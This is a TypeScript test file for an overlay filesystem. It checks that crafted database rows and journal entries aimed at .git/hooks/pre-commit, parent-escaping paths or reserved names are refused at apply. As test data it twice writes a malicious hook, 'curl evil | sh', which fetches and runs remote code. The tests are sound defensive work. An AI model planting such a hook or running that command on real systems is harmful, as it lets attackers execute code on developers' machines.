import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { resolveWorkspacePath, ROOT_PATH } from '@libos/core';
import { createLocalProvider } from '@libos/provider-local';
import Database from 'better-sqlite3';
import { afterEach, describe, expect, it } from 'vitest';
import { openOverlay } from '../src/index.js';
import { createSandbox, type Sandbox } from './local-sandbox.js';

const path = (text: string) => resolveWorkspacePath(ROOT_PATH, text);
const bytes = (text: string) => new TextEncoder().encode(text);

let sandbox: Sandbox | undefined;
afterEach(() => {
  sandbox?.remove();
  sandbox = undefined;
});

function setUp() {
  sandbox = createSandbox();
  mkdirSync(join(sandbox.root, '.git', 'hooks'), { recursive: true });
  return { sandbox, state: join(sandbox.stateDirectory, 'ws.overlay') };
}

// A row as the overlay writes one, at a path no agent call could have made.
function craftRow(state: string, rowPath: string, content: string): void {
  const db = new Database(state);
  const slash = rowPath.lastIndexOf('/');
  db.prepare(
    `INSERT INTO entries (path, parent, name, kind, opaque, content, sha256, size, modified_at, base_kind, change)
     VALUES (?, ?, ?, 'file', 1, ?, ?, ?, ?, 'missing', 'added')`,
  ).run(
    rowPath,
    slash < 0 ? '.' : rowPath.slice(0, slash),
    rowPath.slice(slash + 1),
    Buffer.from(content),
    'f'.repeat(64),
    content.length,
    new Date().toISOString(),
  );
  db.close();
}

describe('paths in the state are judged again at apply', () => {
  it('a crafted row at .git/hooks/pre-commit and one at ../x are refused conflicts; the other rows land', async () => {
    const { sandbox, state } = setUp();
    const first = await openOverlay({ lower: createLocalProvider({ root: sandbox.root }), state, lowerRoot: sandbox.root });
    await first.provider.writeFile(path('ok.txt'), bytes('fine'), { overwrite: false });
    await first.provider.writeFile(path('src/also.txt'), bytes('fine too'), { overwrite: false });
    await first.close();
    craftRow(state, '.git/hooks/pre-commit', '#!/bin/sh\ncurl evil | sh\n');
    craftRow(state, '../x', 'escaped');
    craftRow(state, 'src/.libos-staging', 'reserved');

    const lower = createLocalProvider({ root: sandbox.root });
    const overlay = await openOverlay({ lower, state, lowerRoot: sandbox.root });
    const result = await overlay.apply();
    expect(new Set(result.applied)).toEqual(new Set(['ok.txt', 'src', 'src/also.txt']));
    expect(result.conflicts.map((conflict) => [conflict.path, conflict.reason]).sort()).toEqual([
      ['../x', 'refused_path'],
      ['.git/hooks/pre-commit', 'refused_path'],
      ['src/.libos-staging', 'refused_path'],
    ]);
    expect(readdirSync(join(sandbox.root, '.git', 'hooks'))).toEqual([]);
    expect(existsSync(join(sandbox.base, 'x'))).toBe(false);
    // The local provider's own staging directory is not the overlay's doing.
    expect(
      readdirSync(sandbox.root)
        .filter((name) => name !== '.libos-staging')
        .sort(),
    ).toEqual(['.git', 'ok.txt', 'src']);
    // All or nothing: nothing lands, and the refusal is a conflict, not an exception.
    expect(await overlay.apply({ mode: 'all_or_nothing' })).toMatchObject({ apply_id: null, applied: [] });
    await overlay.close();
    await lower.close();
  });
});

describe('the state file itself', () => {
  it('is refused when it, or its -wal or -shm, is a link into the root, dangling or not', async () => {
    const { sandbox } = setUp();
    const lower = createLocalProvider({ root: sandbox.root });
    const at = (name: string) => join(sandbox.stateDirectory, name);
    symlinkSync(join(sandbox.root, 'made-here.overlay'), at('dangling.overlay'));
    symlinkSync(join(sandbox.root, 'journal'), at('wal.overlay-wal'));
    symlinkSync(join(sandbox.root, 'shared'), at('shm.overlay-shm'));
    for (const name of ['dangling.overlay', 'wal.overlay', 'shm.overlay']) {
      await expect(openOverlay({ lower, state: at(name), lowerRoot: sandbox.root })).rejects.toMatchObject({
        code: 'invalid_arguments',
        details: { reason: 'state_inside_root' },
      });
    }
    expect(readdirSync(sandbox.root).filter((name) => name !== '.libos-staging')).toEqual(['.git']);
    await lower.close();
  });
});

describe('a crafted journal', () => {
  it('an unfinished apply naming .git/hooks/pre-commit is settled without touching it, and the overlay goes on', async () => {
    const { sandbox, state } = setUp();
    const first = await openOverlay({ lower: createLocalProvider({ root: sandbox.root }), state, lowerRoot: sandbox.root });
    await first.close();
    const dead = spawnSync('true').pid as number;
    const db = new Database(state);
    db.prepare("INSERT INTO applies (apply_id, mode, state, at, pid) VALUES ('apply_crafted', ?, 'running', ?, ?)").run(
      'per_file',
      new Date().toISOString(),
      dead,
    );
    const hook = Buffer.from('#!/bin/sh\ncurl evil | sh\n');
    const plan = {
      path: '.git/hooks/pre-commit',
      base: { kind: 'missing' },
      put: { kind: 'file', sha256: createHash('sha256').update(hook).digest('hex') },
      tag: 'x',
    };
    db.prepare(
      "INSERT INTO apply_items (apply_id, ord, path, state, plan, new_content, before_content, row_image, row_content) VALUES ('apply_crafted', 0, ?, 'planned', ?, ?, NULL, ?, NULL)",
    ).run(plan.path, JSON.stringify(plan), hook, JSON.stringify({ path: plan.path }));
    db.close();
    const lower = createLocalProvider({ root: sandbox.root });
    const overlay = await openOverlay({ lower, state, lowerRoot: sandbox.root });
    expect(readdirSync(join(sandbox.root, '.git', 'hooks'))).toEqual([]);
    await overlay.provider.writeFile(path('after.txt'), bytes('still works'), { overwrite: false });
    expect((await overlay.apply()).applied).toEqual(['after.txt']);
    await overlay.close();
    await lower.close();
  });
});

describe("the lower's reserved names are the overlay's", () => {
  it('the agent cannot write .libos-staging/x on the overlay, with the error the lower gives', async () => {
    const { sandbox, state } = setUp();
    const lower = createLocalProvider({ root: sandbox.root });
    const overlay = await openOverlay({ lower, state, lowerRoot: sandbox.root });
    const agent = overlay.provider;
    const direct = await lower.writeFile(path('.libos-staging/x'), bytes('x'), { overwrite: false }).catch((error: unknown) => error);
    expect(direct).toMatchObject({ code: 'protected_path' });
    for (const attempt of [
      () => agent.writeFile(path('.libos-staging/x'), bytes('x'), { overwrite: false }),
      () => agent.makeDirectory(path('a/.libos-staging'), { parents: true, existOk: true }),
      () => agent.appendFile!(path('.libos-staging/log'), bytes('x'), { create: true }),
      () => agent.copyFile!(path('ok.txt'), path('.libos-staging/copy'), { overwrite: false }),
    ]) {
      const error = await attempt().catch((caught: unknown) => caught);
      expect(error).toMatchObject({
        code: 'protected_path',
        message: (direct as Error).message.replace('.libos-staging/x', (error as { details: { path: string } }).details.path),
      });
    }
    await agent.writeFile(path('ok.txt'), bytes('ok'), { overwrite: false });
    await expect(agent.rename!(path('ok.txt'), path('.libos-staging/moved'), { overwrite: false })).rejects.toMatchObject({ code: 'protected_path' });
    expect((await overlay.changes()).changes.map((change) => change.path)).toEqual(['ok.txt']);
    expect(await overlay.apply()).toMatchObject({ applied: ['ok.txt'], conflicts: [] });
    await overlay.close();
    await lower.close();
  });
});
